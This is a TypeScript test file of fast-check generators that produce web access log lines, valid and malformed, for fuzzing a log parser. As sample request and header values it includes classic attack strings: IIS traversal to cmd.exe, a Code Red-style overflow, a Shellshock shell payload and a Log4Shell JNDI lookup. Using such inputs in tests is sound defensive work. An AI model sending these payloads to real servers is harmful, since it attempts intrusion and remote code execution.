// For: access lines for tests, from ordinary to hostile, as fast-check arbitraries.
// Never: imported by anything but a test.

import fc from "fast-check";

const addresses = fc.oneof(
  { weight: 4, arbitrary: fc.ipV4() },
  fc.ipV6(),
  fc.constantFrom(
    "::ffff:192.0.2.7",
    "host.example.jp",
    "-",
    "unix:",
    "192.0.2.07",
    "1..2.3",
    "256.1.1.1",
    "192.0.2.1.5",
    "2001:db8::1%eth0",
    "gw..1",
  ),
);
const users = fc.oneof(
  { weight: 5, arbitrary: fc.constant("-") },
  fc.constantFrom(
    "tanaka",
    "a b",
    '""',
    "x [01/Jan/2020:00:00:00 +0000]",
    "nikto",
    "..",
    "-x",
    '\\"a\\"',
    "",
  ),
);
const stamps = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.constantFrom("19/Jul/2001:06:01:38 -0400", "19/Jul/2001:06:59:59 -0400"),
  },
  fc.constantFrom(
    "31/Dec/1999:23:59:59 +0900",
    "29/Feb/2000:00:00:00 +0000",
    "30/Feb/2000:00:00:00 +0000",
    "19/Jul/2001:06:61:38 -0400",
    "19/Jul/2001:06:01:60 -0400",
    "19/jul/2001:06:01:38 -0400",
    "19/Jul/2001 06:01:38 -0400",
    "19/Jul/2001:06:01:38 +0530",
    "1/Jul/2001:06:01:38 -0400",
    "",
  ),
);
const requests = fc.oneof(
  fc.constantFrom(
    "GET / HTTP/1.1",
    "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0",
    "GET /default.ida?XXXXXXXX%u9090=a  HTTP/1.0",
    "GET /w%69nnt/system32/c%6dd.exe?/c+dir HTTP/1.0",
    "GET /%25%36%33gi/ HTTP/1.0",
    "GET /\\x63md.exe HTTP/1.0",
    "POST /a//b/./c?x=%2e%2e#f HTTP/1.1",
    "get /x",
    "CONNECT mx.example.net:25 HTTP/1.0",
    "GET http://proxy.example.com:8080/azenv.php?a=b HTTP/1.1",
    "OPTIONS * HTTP/1.0",
    "\\x16\\x03\\x01",
    "-",
    "",
    "GET /a b c HTTP/1.1",
    "GET /caf\u00e9 HTTP/1.1",
    'GET /"quoted" HTTP/1.1',
    'GET /\\"escaped\\" HTTP/1.1',
    "GET /nul\u0000 HTTP/1.1",
    "EHLO example.jp",
    "GET",
    " ",
  ),
  fc.string({ maxLength: 30 }),
  fc.string({
    unit: fc.constantFrom("%", "2", "e", "/", ".", "c", "A", "?", " ", "\\", '"'),
    maxLength: 20,
  }),
);
const statuses = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom("200", "404", "301", "500") },
  fc.constantFrom("-", "99", "600", "999", "1000", "4o4", "", "000"),
);
const sizes = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom("-", "0", "196", "123456789") },
  fc.constantFrom("1234567890", "12345678901234567", "x", "", "1.5", "007"),
);
const texts = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "-",
      "http://www.example.jp/",
      "Mozilla/5.0 (X11; Linux x86_64)",
      "curl/7.88.1",
    ),
  },
  fc.constantFrom(
    "",
    '"',
    "\\",
    "() { :;}; /bin/sh",
    "\\x28) {",
    "a\u00ffb",
    "caf\u00c3\u00a9",
    "\u0000",
    "\t",
    "${jndi:ldap://192.0.2.1/a}",
    "\r",
  ),
  fc.string({ maxLength: 20 }),
);

/** Fields of a line in the order of the log; the format decides which it writes. */
export interface MadeUpFields {
  readonly host: string;
  readonly address: string;
  readonly user: string;
  readonly stamp: string;
  readonly request: string;
  readonly status: string;
  readonly size: string;
  readonly referrer: string;
  readonly agent: string;
  readonly numbers: readonly [string, string, string, string];
}

export const madeUpFields: fc.Arbitrary<MadeUpFields> = fc.record({
  host: fc.constantFrom(
    "gw1.example.jp:80",
    "gw1.example.jp",
    ":80",
    "[2001:db8::1]:443",
    "a:b:80",
    "gw1:",
    "_",
    "",
  ),
  address: addresses,
  user: users,
  stamp: stamps,
  request: requests,
  status: statuses,
  size: sizes,
  referrer: texts,
  agent: texts,
  numbers: fc.tuple(sizes, sizes, sizes, sizes),
});

/** `shape`: which of the fields, by the names of access-formats.ts. */
export function written(fields: MadeUpFields, shape: string): string {
  const { host, address, user, stamp, request, status, size, referrer, agent, numbers } = fields;
  const isVhost = shape.includes("vhost");
  const head = `${isVhost ? `${host} ` : ""}${address} - ${user} [${stamp}] "${request}" ${status} ${size}`;
  if (shape.endsWith("common")) return head;
  const combined = `${head} "${referrer}" "${agent}"`;
  if (shape.endsWith("-io")) return `${combined} ${numbers.slice(0, 2).join(" ")}`;
  if (shape === "combined-more") return `${combined} more`;
  if (shape === "hinomi") return `${combined} ${numbers.join(" ")}`;
  return shape === "nginx-main" ? `${combined} "${referrer}"` : combined;
}

/** A few bytes of the line changed, taken out or put in. */
export function damaged(lines: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const odd = fc.constantFrom('"', "\\", " ", "[", "]", ":", "\u0000", "\u00e9", "x", "-", "0", "");
  const edit = fc.tuple(fc.nat(), fc.nat({ max: 1 }), odd);
  return fc.tuple(lines, fc.array(edit, { maxLength: 2 })).map(([line, edits]) => {
    let text = line;
    for (const [place, removed, added] of edits) {
      const at = place % (text.length + 1);
      text = text.slice(0, at) + added + text.slice(at + removed);
    }
    return text;
  });
}
